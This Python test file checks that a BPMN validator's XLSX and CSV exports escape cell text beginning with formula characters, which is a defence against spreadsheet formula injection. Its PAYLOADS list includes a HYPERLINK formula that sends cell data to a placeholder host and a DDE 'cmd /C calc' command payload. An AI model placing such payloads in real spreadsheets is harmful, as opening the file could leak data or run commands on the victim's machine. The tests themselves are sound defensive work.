"""Spreadsheet and CSV exports never carry formulas: every name that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is written with a leading ``'`` (OWASP), by
one function (validator.spreadsheet.escape_cell) that every writer uses: the validation
report XLSX (one map, a set with its plan, and the server's download), the simulation XLSX
(``ppb simulate -f xlsx``, ``ppb banding -f xlsx``), the event log CSV and the plan
template and export. Numbers stay numbers."""
from __future__ import annotations

import copy
import csv
import re
from io import BytesIO
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from validator.spreadsheet import FORMULA_START, escape_cell, unescape_cell, xlsx_cell
from tests.web.conftest import bearer

ROOT = Path(__file__).resolve().parents[2]
SIM_MODEL = ROOT / "tests" / "sim" / "models" / "izin-4-lane.bpmn"
ALIGN = ROOT / "tests" / "data" / "alignment"
# the prefixes as XML attribute text (a literal tab or CR in an attribute becomes a space)
XML_PREFIXES = ["=", "+", "-", "@", "&#9;", "&#13;"]
PAYLOADS = ['HYPERLINK("http://contoh.invalid/?x="&A1;"klik")', "1+1", "2*3", "SUM(A1:A9)",
            "cmd|' /C calc'!A0", "10"]


def _prefixed_names(data: bytes) -> bytes:
    """Every ``name`` attribute of a map rewritten to start with one of the formula
    characters (in turn), followed by a formula-like payload and the old name."""
    counter = iter(range(10**6))

    def swap(m: re.Match) -> bytes:
        i = next(counter)
        payload = PAYLOADS[i % len(PAYLOADS)].replace("&", "&amp;").replace('"', "&quot;")
        return f'name="{XML_PREFIXES[i % len(XML_PREFIXES)]}{payload} '.encode() + m.group(1) + b'"'

    return re.sub(rb'name="([^"]*)"', swap, data)


def _check(book: bytes, min_escaped: int = 6, need: str = "".join(FORMULA_START)) -> int:
    """No cell of the workbook is a formula or starts with a formula character; text that
    did is there with its quote (each character of ``need`` at least once, when asked)."""
    wb = load_workbook(BytesIO(book))
    escaped: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (ws.title, cell.coordinate,
                                                                      cell.value)
                    if cell.value.startswith("'") and cell.value[1:2] in FORMULA_START:
                        escaped.append(cell.value[1])
    if min_escaped:
        assert len(escaped) >= min_escaped and set(need) <= set(escaped), sorted(set(escaped))
    return len(escaped)


def _check_csv(text: str) -> int:
    escaped = 0
    for row in csv.reader(text.splitlines()):
        for value in row:
            assert not value.startswith(FORMULA_START), value
            escaped += value.startswith("'") and value[1:2] in FORMULA_START
    return escaped


# -- the one function ---------------------------------------------------------------------------

@pytest.mark.parametrize("char", FORMULA_START)
def test_escape_cell_quotes_text_that_starts_a_formula(char):
    assert escape_cell(char + "1+1") == "'" + char + "1+1"
    assert unescape_cell(escape_cell(char + "1+1")) == char + "1+1"


def test_numbers_and_plain_text_are_unchanged():
    for value in (-5, 3.25, 0, None, True, "Permohonan", " =spasi dulu", "'kutip", "", "1-2"):
        assert escape_cell(value) == value
        assert unescape_cell(value) == value
    assert xlsx_cell("\x01=X") == "'=X"          # characters XML cannot carry go first


# -- validation report ---------------------------------------------------------------------------

def test_validation_report_xlsx_of_one_map():
    from validator.engine import Validator
    from validator.report import render

    from validator.config import Config

    data = _prefixed_names(SIM_MODEL.read_bytes())
    # bpmnlint's per-element no-bpmndi (profile bpmnlint-all) gives a finding naming every
    # element of this map without a diagram, so every prefix reaches the sheet
    result = Validator(Config(profile="bpmnlint-all")).validate_bytes(data, path="=peta+jahat.bpmn")
    from validator.engine import Report

    report = Report(files=[result], catalog_version="uji", profile="standar")
    assert result.findings, "the map should have findings naming its elements"
    _check(render(report, "xlsx"))


def test_validation_report_xlsx_of_a_set_with_its_plan():
    """The set sheets: the alignment matrix (process names as column heads), the cascade
    tree, the OPD table, with plan texts that start formulas too."""
    from validator.engine import Validator
    from validator.mapset import from_bytes
    from validator.plan import build_plan
    from validator.report import render

    files = [(f"@{p.name}", _prefixed_names(p.read_bytes())) for p in sorted((ALIGN / "set").glob("*.bpmn"))]
    doc = yaml.safe_load((ALIGN / "rencana.yaml").read_text(encoding="utf-8"))
    _prefix_texts(doc)
    report = Validator().validate_set(from_bytes(files), plan=build_plan(doc))
    _check(render(report, "xlsx"), need="=+-@\t")   # (the plan reader strips a leading CR)


def test_server_report_download_xlsx(client, token):
    data = _prefixed_names(SIM_MODEL.read_bytes())
    up = client.post("/api/v1/validate", query_string={"simpan": "1", "filename": "=peta.bpmn",
                                                       "profile": "bpmnlint-all"},
                     data=data, headers={**bearer(token), "Content-Type": "application/xml"})
    assert up.status_code == 201, up.get_data(as_text=True)[:300]
    sid = up.get_json()["submissions"][0]["id"]
    x = client.get(f"/api/v1/submissions/{sid}/report?format=xlsx", headers=bearer(token))
    assert x.status_code == 200
    _check(x.data)


# -- simulation -----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def dangerous_map(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("sim") / "izin-jahat.bpmn"
    path.write_bytes(_prefixed_names(SIM_MODEL.read_bytes()))
    return path


def test_ppb_simulate_xlsx_and_event_log_csv(dangerous_map, tmp_path):
    from validator.cli import main

    book, log = tmp_path / "hasil.xlsx", tmp_path / "log.csv"
    assert main(["simulate", str(dangerous_map), "-n", "40", "-r", "1", "-f", "xlsx",
                 "-o", str(book), "--eventlog", str(log)]) == 0
    _check(book.read_bytes(), min_escaped=4, need="=+-@")   # the simulation strips names
    text = log.read_text(encoding="utf-8")
    assert _check_csv(text) >= 4
    names = {row["nama_aktivitas"] for row in csv.DictReader(text.splitlines())}
    assert any(n.startswith("'=") or n.startswith("'+") or n.startswith("'-") for n in names)
    assert all(re.fullmatch(r"r\d+-k\d+", r["id_kasus"]) for r in csv.DictReader(text.splitlines()))


def test_ppb_banding_xlsx(dangerous_map, tmp_path):
    from validator.cli import main

    book = tmp_path / "banding.xlsx"
    assert main(["banding", str(dangerous_map), str(dangerous_map), "-n", "30", "-r", "2",
                 "-f", "xlsx", "-o", str(book)]) == 0
    _check(book.read_bytes(), min_escaped=0)


def test_sim_xlsx_numbers_stay_numbers(dangerous_map):
    from validator.sim import Scenario, simulate
    from validator.sim.xlsx import workbook

    wb = workbook(simulate(dangerous_map, Scenario(cases=30, replications=1, seed=1)))
    ws = wb.worksheets[2]                        # Aktivitas: counts and minutes are numbers
    values = [c.value for c in next(ws.iter_rows(min_row=2, max_row=2))]
    assert isinstance(values[3], (int, float)) and isinstance(values[4], (int, float))


# -- plan template and export ---------------------------------------------------------------------

def _prefix_texts(doc) -> None:
    """Every text of a plan document (names, teks, visi, ids stay) made to start a formula."""
    chars = iter(range(10**6))

    def walk(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("nama", "teks", "visi", "satuan") and isinstance(value, str):
                    node[key] = FORMULA_START[next(chars) % len(FORMULA_START)] + value
                else:
                    walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(doc)


def test_plan_export_quotes_formula_text_and_reads_back_equal(tmp_path):
    from validator.plan import build_plan, load_plan, write_plan

    doc = yaml.safe_load((ROOT / "bpmn_samples" / "rencana-pariaman.yaml").read_text(encoding="utf-8"))
    _prefix_texts(doc)
    doc["rpjmd"]["sasaran"][0]["indikator"][0]["target"] = {2025: "+WTP", 2026: "=A1", 2027: "@B"}
    doc["rpjmd"]["sasaran"][1]["indikator"][0]["target"] = {2025: -3.5, 2026: 0, 2027: 12}
    plan = build_plan(copy.deepcopy(doc))
    path = tmp_path / "rencana.xlsx"
    write_plan(plan, path)
    _check(path.read_bytes(), need="=+-@")       # (the plan reader strips leading tab and CR)
    again = load_plan(path)
    assert again.pemda == plan.pemda and again.rpjmd == plan.rpjmd
    assert again.renstra == plan.renstra and again.organisasi == plan.organisasi
    numbers = again.rpjmd.sasaran[1].indikator[0].target
    assert dict(numbers) == {2025: -3.5, 2026: 0, 2027: 12}      # numbers stay numbers


def test_plan_template_has_no_formula():
    from validator.plan.xlsx import template_bytes

    _check(template_bytes(), min_escaped=0)
